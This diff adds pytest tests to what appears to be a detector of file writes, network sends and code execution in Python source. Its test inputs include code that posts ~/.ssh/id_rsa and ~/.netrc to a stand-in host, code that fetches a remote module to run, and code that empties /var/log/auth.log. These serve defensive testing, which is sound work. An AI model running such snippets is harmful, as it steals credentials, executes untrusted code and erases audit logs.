@@ -130,3 +130,31 @@ def test_a_program_removes_its_own_unseen(removed: str) -> None:
 @pytest.mark.parametrize("emptied", ["open(p, 'w').close()", "pathlib.Path(p).write_text('')", "os.truncate(p, 0)"])
 def test_an_emptied_file_has_no_content(emptied: str) -> None:
     assert [text.strip() for text in fields_of(f"p = '/var/log/auth.log'\n{emptied}", "write", "Content")] == [""]
+
+
+def test_a_data_class_starts_with_its_defaults() -> None:
+    source = """
+from dataclasses import dataclass, field
+
+@dataclass
+class Settings:
+    route: str = field(default="/in")
+    names: list = field(default_factory=lambda: ["~/.ssh/id_rsa", "~/.netrc"])
+
+settings = Settings()
+for name in settings.names:
+    requests.post("https://a.example" + settings.route, data=open(name).read())
+"""
+    assert fields_of(source, "connect", "Url") == ["https://a.example/in"] * 2
+    assert fields_of(source, "connect", "SentData") == ["~/.ssh/id_rsa", "~/.netrc"]
+
+
+def test_a_module_that_was_fetched_is_executed() -> None:
+    source = (
+        "p = pathlib.Path(tempfile.mkdtemp()) / 'm.py'\np.write_text(requests.get('https://a.example/m.py').text)\n"
+        "import importlib.util\nimportlib.util.spec_from_file_location('m', p)"
+    )
+    assert fields_of(source, "exec", "ImageOrigin") == ["https://a.example/m.py"]
+    assert (
+        fields_of("import importlib.util\nimportlib.util.spec_from_file_location('m', 'm.py')", "exec", "Image") == []
+    )
